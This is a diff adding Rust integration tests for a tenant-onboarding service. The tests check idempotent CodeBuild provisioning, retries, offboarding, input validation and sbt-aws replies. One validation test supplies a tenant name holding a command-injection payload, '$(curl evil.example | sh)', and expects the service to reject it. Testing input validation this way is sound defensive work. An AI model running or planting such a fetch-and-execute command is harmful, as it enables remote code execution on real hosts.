@@ -1,0 +1,602 @@
+//! tenant-onboarding against moto and the CodeBuild stand-in, under the example policy: a request
+//! provisions its tenant once (redelivered, repeated, or eight at once), the build's allowed
+//! outputs and nothing else reach `Tenant Provisioned`, a failed build is retried as the tier
+//! says and then fails with its build, phase and logs, offboarding runs the tier's deprovisioning
+//! project, an invalid request is answered with every reason and starts nothing, half-done work
+//! is finished by the next event, and sbt-aws's control plane gets its own shapes back.
+
+use std::sync::Arc;
+use std::time::Duration;
+
+use eddo::idempotency::now_epoch;
+use eddo::names::TenantId;
+use eddo_local::codebuild::Plan;
+use eddo_local::moto::{Moto, project_root};
+use eddo_local::stack::Stack;
+use eddo_tenant_onboarding::decide::{Job, State};
+use eddo_tenant_onboarding::store::{Store, Tenant};
+use eddo_tenant_onboarding::{Report, Sbt, Tenants};
+use serde_json::{Value, json};
+
+const PROVISION: &str = "eddo-tenant-provision";
+const PREMIUM: &str = "eddo-tenant-provision-premium";
+const DEPROVISION: &str = "eddo-tenant-deprovision";
+
+struct Setup {
+    _moto: Moto,
+    stack: Stack,
+    tenants: Arc<Tenants>,
+    /// Receives the answers to sbt-aws (not eddo's events, so not on the tap).
+    sbt_answers: String,
+}
+
+async fn setup(prefix: &str) -> Setup {
+    let moto = Moto::start().expect("moto server (run `make setup`)");
+    let sdk = moto.sdk_config().await;
+    let stack = Stack::provision(&sdk, prefix).await.unwrap();
+    let config = eddo_tests::policy_config(&stack, "tenant-onboarding");
+    let env = &stack.function("tenant-onboarding").unwrap().env;
+    let sbt = Sbt::from_env(&eddo::config::Env::from_pairs(
+        env.iter().map(|(k, v)| (k.as_str(), v.as_str())),
+    ))
+    .unwrap();
+    assert!(sbt.is_some(), "the local stack speaks sbt-aws");
+    let policy = eddo::policy::load(&sdk, &config.policy_parameter)
+        .await
+        .unwrap();
+    let tenants = Tenants::new(&config, policy, &sdk)
+        .with_sbt(sbt)
+        .with_codebuild(eddo_tests::stand_in(&stack));
+    let sbt_answers = stack
+        .route_to_queue(
+            &format!("{prefix}-sbt-answers"),
+            r#"{"source":["applicationPlaneEventSource"]}"#,
+        )
+        .await
+        .unwrap();
+    Setup {
+        _moto: moto,
+        stack,
+        tenants: Arc::new(tenants),
+        sbt_answers,
+    }
+}
+
+fn example(name: &str) -> Value {
+    serde_json::from_str(
+        &std::fs::read_to_string(project_root().join("infra/examples/events").join(name)).unwrap(),
+    )
+    .unwrap()
+}
+
+/// eddo's onboarding request for `tenant` in `tier`, with `values`.
+fn onboard(tenant: &str, tier: &str, values: Value) -> Value {
+    let mut e = example("tenant-onboarding-requested.json");
+    e["id"] = json!(format!("req-{tenant}-{}", fastrand_id()));
+    e["detail"] = json!({"tenant_id": tenant, "tier": tier, "values": values});
+    e
+}
+
+fn offboard(tenant: &str) -> Value {
+    let mut e = example("tenant-offboarding-requested.json");
+    e["id"] = json!(format!("off-{tenant}-{}", fastrand_id()));
+    e["detail"]["tenant_id"] = json!(tenant);
+    e
+}
+
+fn fastrand_id() -> String {
+    format!("{:x}", now_epoch() ^ u64::from(std::process::id()) << 20)
+}
+
+fn basic_values() -> Value {
+    json!({"tenantName": "Acme Corp", "email": "ops@acme.example"})
+}
+
+impl Setup {
+    async fn handle(&self, e: &Value) -> Report {
+        self.tenants.handle(e).await.unwrap()
+    }
+
+    fn builds(&self, project: &str) -> Vec<eddo_local::codebuild::Build> {
+        self.stack
+            .codebuild
+            .builds()
+            .into_iter()
+            .filter(|b| b.project == project)
+            .collect()
+    }
+
+    /// Lets the tenant builds finish and hands their completion events, as the template's rule
+    /// delivers them, to the function (each twice: EventBridge delivers at least once).
+    async fn complete_builds(&self) -> usize {
+        assert!(self.stack.codebuild.settle(Duration::from_secs(20)).await);
+        let queue = &self.stack.matched["TenantOnboardingFunctionTenantBuilds"];
+        let events = self
+            .stack
+            .drain(queue, Duration::from_secs(2))
+            .await
+            .unwrap();
+        for e in &events {
+            self.handle(e).await;
+            self.handle(e).await;
+        }
+        events.len()
+    }
+
+    async fn published(&self) -> Vec<Value> {
+        eddo_tests::published(&self.stack, "eddo.tenants").await
+    }
+
+    /// The answers to sbt-aws on the bus since the last call.
+    async fn answers(&self) -> Vec<Value> {
+        self.stack
+            .drain(&self.sbt_answers, Duration::from_millis(300))
+            .await
+            .unwrap()
+    }
+
+    fn store(&self) -> Store {
+        Store::new(
+            aws_sdk_dynamodb::Client::new(&self.stack.sdk),
+            &self.stack.table,
+        )
+    }
+
+    async fn tenant(&self, id: &str) -> Option<Tenant> {
+        self.store()
+            .get(&TenantId::parse(id).unwrap())
+            .await
+            .unwrap()
+    }
+}
+
+fn types(events: &[Value]) -> Vec<&str> {
+    events
+        .iter()
+        .map(|e| e["detail-type"].as_str().unwrap())
+        .collect()
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_tenant_is_provisioned_once_with_only_its_allowed_outputs() {
+    let s = setup("tn-once").await;
+    s.stack.codebuild.plan(
+        PROVISION,
+        Plan::succeed()
+            .exporting("TENANT_URL", "https://acme.app.example")
+            .exporting("TENANT_STACK", "tenant-acme")
+            // Exported by the build, not allowed by the tier: it never leaves the build.
+            .exporting("TENANT_DB_PASSWORD", "hunter2"),
+    );
+    let request = onboard("acme", "basic", basic_values());
+    let first = s.handle(&request).await;
+    assert_eq!(first.published, ["Tenant Provisioning Started"]);
+    // Redelivered while the build runs: nothing starts, nothing is said.
+    let again = s.handle(&request).await;
+    assert!(again.published.is_empty(), "{again:?}");
+    assert!(
+        again.outcome.contains("being provisioned by build"),
+        "{again:?}"
+    );
+
+    let builds = s.builds(PROVISION);
+    assert_eq!(builds.len(), 1);
+    let b = &builds[0];
+    assert_eq!(b.env("EDDO_TENANT_ID"), Some("acme"));
+    assert_eq!(b.env("EDDO_TENANT_TIER"), Some("basic"));
+    assert_eq!(b.env("EDDO_ATTEMPT"), Some("1"));
+    assert_eq!(b.env("TENANT_NAME"), Some("Acme Corp"));
+    assert_eq!(b.env("TENANT_ADMIN_EMAIL"), Some("ops@acme.example"));
+    assert_eq!(b.timeout_minutes, 30);
+    assert!(
+        b.idempotency_token
+            .as_deref()
+            .unwrap()
+            .starts_with("eddo-tenant-")
+    );
+
+    let started = s.published().await;
+    assert_eq!(types(&started), ["Tenant Provisioning Started"]);
+    let d = &started[0]["detail"];
+    assert_eq!(d["build_id"], json!(b.id));
+    assert_eq!(
+        (d["attempt"].as_u64(), d["max_attempts"].as_u64()),
+        (Some(1), Some(2))
+    );
+    assert_eq!(d["project"], PROVISION);
+    assert_eq!(d["metadata"]["correlation_id"], "tenant:acme");
+
+    assert_eq!(s.complete_builds().await, 1);
+    let done = s.published().await;
+    assert_eq!(
+        types(&done),
+        ["Tenant Provisioned"],
+        "said once for two deliveries"
+    );
+    let d = &done[0]["detail"];
+    assert_eq!(
+        d["outputs"],
+        json!({"TENANT_URL": "https://acme.app.example", "TENANT_STACK": "tenant-acme"})
+    );
+    assert!(!done[0].to_string().contains("hunter2"));
+    assert_eq!(d["repeated"], false);
+    let t = s.tenant("acme").await.unwrap();
+    assert_eq!(t.state, State::Active);
+    assert!(t.announced);
+
+    // Asked again once active: said again, nothing rebuilt.
+    let repeat = s.handle(&onboard("acme", "basic", basic_values())).await;
+    assert_eq!(repeat.published, ["Tenant Provisioned"]);
+    let said = s.published().await;
+    assert_eq!(said[0]["detail"]["repeated"], true);
+    assert_eq!(
+        said[0]["detail"]["outputs"]["TENANT_URL"],
+        "https://acme.app.example"
+    );
+    assert_eq!(s.builds(PROVISION).len(), 1);
+    // Asked for another tier: refused, not moved.
+    let other = s
+        .handle(&onboard(
+            "acme",
+            "premium",
+            json!({"tenantName": "Acme", "email": "a@acme.example"}),
+        ))
+        .await;
+    assert_eq!(other.published, ["Tenant Onboarding Rejected"]);
+    assert!(other.outcome.contains("active in tier basic"), "{other:?}");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn eight_requests_at_once_start_one_build() {
+    let s = setup("tn-race").await;
+    s.stack
+        .codebuild
+        .plan(PROVISION, Plan::succeed().lasting(Duration::from_secs(2)));
+    let request = onboard("globex", "basic", basic_values());
+    let mut tasks = Vec::new();
+    for i in 0..8 {
+        let t = s.tenants.clone();
+        let mut e = request.clone();
+        // Distinct deliveries of the same request (a control plane that retried).
+        e["id"] = json!(format!("race-{i}"));
+        tasks.push(tokio::spawn(async move { t.handle(&e).await }));
+    }
+    let mut started = 0;
+    for t in tasks {
+        let r = t.await.unwrap().unwrap();
+        started += r.published.len();
+    }
+    assert_eq!(started, 1, "one Tenant Provisioning Started");
+    assert_eq!(s.builds(PROVISION).len(), 1, "one build");
+    assert_eq!(s.stack.codebuild.calls(PROVISION), 1, "one StartBuild call");
+    assert_eq!(types(&s.published().await), ["Tenant Provisioning Started"]);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_failed_build_is_retried_as_the_tier_says_then_fails_with_its_reasons() {
+    let s = setup("tn-retry").await;
+    // basic: one retry. The first attempt fails, the retry succeeds.
+    s.stack.codebuild.plan(PROVISION, Plan::fail("BUILD"));
+    s.stack.codebuild.plan(
+        PROVISION,
+        Plan::succeed().exporting("TENANT_URL", "https://initech.app.example"),
+    );
+    s.handle(&onboard("initech", "basic", basic_values())).await;
+    s.complete_builds().await;
+    let events = s.published().await;
+    assert_eq!(
+        types(&events),
+        ["Tenant Provisioning Started", "Tenant Provisioning Started"]
+    );
+    let retry = &events[1]["detail"];
+    assert_eq!(retry["attempt"], 2);
+    let previous = &retry["previous_attempt"];
+    assert_eq!(previous["status"], "FAILED");
+    assert_eq!(previous["failed_phase"], "BUILD");
+    assert!(
+        previous["logs_url"]
+            .as_str()
+            .unwrap()
+            .starts_with("https://")
+    );
+    let builds = s.builds(PROVISION);
+    assert_eq!(builds.len(), 2);
+    assert_eq!(builds[1].env("EDDO_ATTEMPT"), Some("2"));
+    assert_eq!(builds[1].env("TENANT_NAME"), Some("Acme Corp"));
+    assert_ne!(builds[0].idempotency_token, builds[1].idempotency_token);
+    s.complete_builds().await;
+    assert_eq!(types(&s.published().await), ["Tenant Provisioned"]);
+
+    // premium: two retries, all three attempts fail.
+    for _ in 0..3 {
+        s.stack.codebuild.plan(PREMIUM, Plan::fail("POST_BUILD"));
+    }
+    let values = json!({"tenantName": "Hooli", "email": "it@hooli.example"});
+    s.handle(&onboard("hooli", "premium", values.clone())).await;
+    for _ in 0..3 {
+        s.complete_builds().await;
+    }
+    let events = s.published().await;
+    assert_eq!(
+        types(&events),
+        [
+            "Tenant Provisioning Started",
+            "Tenant Provisioning Started",
+            "Tenant Provisioning Started",
+            "Tenant Provisioning Failed"
+        ]
+    );
+    let failed = &events[3]["detail"];
+    let last = &s.builds(PREMIUM)[2];
+    assert_eq!(failed["build_id"], json!(last.id));
+    assert_eq!(failed["failed_phase"], "POST_BUILD");
+    assert_eq!(failed["status"], "FAILED");
+    assert_eq!(
+        (failed["attempt"].as_u64(), failed["max_attempts"].as_u64()),
+        (Some(3), Some(3))
+    );
+    assert!(failed["logs_url"].as_str().unwrap().starts_with("https://"));
+    assert!(
+        failed["reason"]
+            .as_str()
+            .unwrap()
+            .contains("ended FAILED in phase POST_BUILD, on attempt 3 of 3"),
+        "{failed}"
+    );
+    assert_eq!(s.tenant("hooli").await.unwrap().state, State::Failed);
+
+    // A new request for a failed tenant provisions it again, from attempt 1.
+    s.stack.codebuild.plan(PREMIUM, Plan::succeed());
+    let again = s.handle(&onboard("hooli", "premium", values)).await;
+    assert_eq!(again.published, ["Tenant Provisioning Started"]);
+    s.complete_builds().await;
+    let events = s.published().await;
+    assert_eq!(
+        types(&events),
+        ["Tenant Provisioning Started", "Tenant Provisioned"]
+    );
+    assert_eq!(events[0]["detail"]["attempt"], 1);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn offboarding_runs_the_tiers_deprovisioning_project() {
+    let s = setup("tn-off").await;
+    // Not registered: refused with the reason.
+    let unknown = s.handle(&offboard("umbrella")).await;
+    assert_eq!(unknown.published, ["Tenant Offboarding Rejected"]);
+    assert_eq!(
+        s.published().await[0]["detail"]["reasons"],
+        json!(["the tenant is not registered"])
+    );
+
+    s.handle(&onboard("umbrella", "basic", basic_values()))
+        .await;
+    // Being provisioned: refused, the provisioning goes on.
+    let early = s.handle(&offboard("umbrella")).await;
+    assert_eq!(early.published, ["Tenant Offboarding Rejected"]);
+    assert!(early.outcome.contains("being provisioned"), "{early:?}");
+    s.complete_builds().await;
+    assert_eq!(
+        types(&s.published().await),
+        [
+            "Tenant Provisioning Started",
+            "Tenant Offboarding Rejected",
+            "Tenant Provisioned"
+        ]
+    );
+
+    let request = offboard("umbrella");
+    assert_eq!(
+        s.handle(&request).await.published,
+        ["Tenant Deprovisioning Started"]
+    );
+    assert!(
+        s.handle(&request).await.published.is_empty(),
+        "a redelivery starts nothing"
+    );
+    let builds = s.builds(DEPROVISION);
+    assert_eq!(builds.len(), 1);
+    assert_eq!(builds[0].env("EDDO_TENANT_ID"), Some("umbrella"));
+    // The values it was provisioned with, so the teardown can find what it made.
+    assert_eq!(builds[0].env("TENANT_NAME"), Some("Acme Corp"));
+    assert_eq!(builds[0].timeout_minutes, 30);
+    s.complete_builds().await;
+    let events = s.published().await;
+    assert_eq!(
+        types(&events),
+        ["Tenant Deprovisioning Started", "Tenant Deprovisioned"]
+    );
+    assert_eq!(
+        s.tenant("umbrella").await.unwrap().state,
+        State::Deprovisioned
+    );
+    // Asked again: said again.
+    assert_eq!(
+        s.handle(&offboard("umbrella")).await.published,
+        ["Tenant Deprovisioned"]
+    );
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn an_invalid_request_is_answered_with_every_reason_and_starts_nothing() {
+    let s = setup("tn-invalid").await;
+    for (detail, reasons) in [
+        (
+            json!({"tenant_id": "Acme Corp", "tier": "gold", "values": {}}),
+            vec![
+                "tenant_id \"Acme Corp\" is not a tenant id",
+                "tier \"gold\" is not in the policy (tiers: basic, premium)",
+            ],
+        ),
+        (
+            json!({"tenant_id": "acme", "tier": "basic", "values": {"tenantName": "$(curl evil.example | sh)", "plan": "x"}}),
+            vec![
+                "values.plan is not an input of tier basic",
+                "values.tenantName holds '$'",
+            ],
+        ),
+        (
+            json!({"tenant_id": "acme", "tier": "premium", "values": {"tenantName": "A\nB"}}),
+            vec![
+                "values.email is required by tier premium",
+                "values.tenantName holds a control character",
+            ],
+        ),
+    ] {
+        let mut e = onboard("x", "basic", json!({}));
+        e["detail"] = detail.clone();
+        // Answered, not failed: Lambda does not retry it.
+        let r = s
+            .tenants
+            .handle(&e)
+            .await
+            .expect("an invalid request is not an error");
+        assert_eq!(r.published, ["Tenant Onboarding Rejected"], "{detail}");
+        let events = s.published().await;
+        let got: Vec<&str> = events[0]["detail"]["reasons"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|v| v.as_str().unwrap())
+            .collect();
+        assert_eq!(got.len(), reasons.len(), "{detail}: {got:?}");
+        for (g, want) in got.iter().zip(&reasons) {
+            assert!(g.starts_with(want), "{detail}: {g} vs {want}");
+        }
+    }
+    assert!(s.stack.codebuild.builds().is_empty(), "nothing started");
+    assert!(s.tenant("acme").await.is_none(), "nothing registered");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn work_a_dead_invocation_left_is_finished_by_the_next_event() {
+    let s = setup("tn-resume").await;
+    let now = now_epoch();
+    // An invocation registered the tenant and died before starting its build.
+    let dead = Tenant {
+        id: TenantId::parse("stark").unwrap(),
+        state: State::Requested,
+        tier: "basic".into(),
+        rev: 1,
+        job: Job::Provision,
+        attempt: 1,
+        build_id: None,
+        values: vec![("TENANT_NAME".into(), "Stark".into())],
+        outputs: vec![],
+        registration_id: None,
+        sbt: false,
+        correlation_id: "tenant:stark".into(),
+        causation_id: "req-stark".into(),
+        last_failure: None,
+        pending: vec![],
+        announced: true,
+        lease_until: now + 600,
+        updated_at: now,
+    };
+    assert!(s.store().put(&dead, None).await.unwrap());
+    let request = onboard("stark", "basic", json!({"tenantName": "Stark"}));
+    // Its lease still runs: the redelivery leaves it alone.
+    let r = s.handle(&request).await;
+    assert!(
+        r.published.is_empty() && s.builds(PROVISION).is_empty(),
+        "{r:?}"
+    );
+    // The lease lapsed: the next delivery starts the build, once.
+    let mut lapsed = s.tenant("stark").await.unwrap();
+    lapsed.lease_until = 0;
+    lapsed.rev += 1;
+    assert!(s.store().put(&lapsed, Some(1)).await.unwrap());
+    assert_eq!(
+        s.handle(&request).await.published,
+        ["Tenant Provisioning Started"]
+    );
+    assert!(s.handle(&request).await.published.is_empty());
+    assert_eq!(s.builds(PROVISION).len(), 1);
+    assert_eq!(s.builds(PROVISION)[0].env("TENANT_NAME"), Some("Stark"));
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn an_sbt_aws_control_plane_gets_answers_in_its_own_shape() {
+    let s = setup("tn-sbt").await;
+    s.stack.codebuild.plan(
+        PREMIUM,
+        Plan::succeed().exporting("TENANT_URL", "https://b.app.example"),
+    );
+    let request = example("sbt-onboarding-request.json");
+    assert_eq!(
+        s.handle(&request).await.published,
+        ["Tenant Provisioning Started"]
+    );
+    let b = &s.builds(PREMIUM)[0];
+    assert_eq!(
+        b.env("EDDO_TENANT_ID"),
+        Some("e6878e03-ae2c-43ed-a863-08314487318b")
+    );
+    assert_eq!(b.env("TENANT_NAME"), Some("tenant-b"));
+    s.complete_builds().await;
+    let answer = s.answers().await;
+    assert_eq!(answer.len(), 1, "{answer:?}");
+    assert_eq!(answer[0]["detail-type"], "provisionSuccess");
+    assert_eq!(
+        answer[0]["detail"],
+        json!({
+            "tenantId": "e6878e03-ae2c-43ed-a863-08314487318b",
+            "tenantRegistrationId": "0b9c3f4c-71a2-4b8e-9a51-1f0d2f8b6c11",
+            "jobOutput": {"tenantData": {"TENANT_URL": "https://b.app.example"}, "tenantRegistrationData": {}}
+        })
+    );
+    assert!(
+        answer[0]["detail"].get("metadata").is_none(),
+        "sbt-aws's shape, not eddo's"
+    );
+    let ours = s.published().await;
+    assert_eq!(
+        types(&ours),
+        ["Tenant Provisioning Started", "Tenant Provisioned"]
+    );
+    assert_eq!(
+        ours[1]["detail"]["registration_id"],
+        "0b9c3f4c-71a2-4b8e-9a51-1f0d2f8b6c11"
+    );
+
+    // A failure, and an invalid request, are answered with provisionFailure and the reason.
+    s.stack.codebuild.plan(DEPROVISION, Plan::fail("BUILD"));
+    s.stack.codebuild.plan(DEPROVISION, Plan::fail("BUILD"));
+    s.stack.codebuild.plan(DEPROVISION, Plan::fail("BUILD"));
+    s.handle(&example("sbt-offboarding-request.json")).await;
+    for _ in 0..3 {
+        s.complete_builds().await;
+    }
+    let mut bad = example("sbt-onboarding-request.json");
+    bad["detail"]["tenantId"] = json!("Not A Label");
+    bad["detail"]["tenantRegistrationId"] = json!("reg-2");
+    s.handle(&bad).await;
+    let answers = s.answers().await;
+    assert_eq!(
+        answers
+            .iter()
+            .map(|e| e["detail-type"].as_str().unwrap())
+            .collect::<Vec<_>>(),
+        ["deprovisionFailure", "provisionFailure"]
+    );
+    let failed = &answers[0]["detail"]["jobOutput"];
+    assert_eq!(failed["tenantStatus"], "Failed to deprovision tenant.");
+    assert_eq!(failed["failedPhase"], "BUILD");
+    assert!(failed["logsUrl"].as_str().unwrap().starts_with("https://"));
+    assert!(
+        failed["reason"]
+            .as_str()
+            .unwrap()
+            .contains("on attempt 3 of 3"),
+        "{failed}"
+    );
+    let rejected = &answers[1]["detail"];
+    assert_eq!(rejected["tenantRegistrationId"], "reg-2");
+    assert!(
+        rejected["jobOutput"]["reason"]
+            .as_str()
+            .unwrap()
+            .contains("tenantId \"Not A Label\" is not a tenant id"),
+        "{rejected}"
+    );
+}
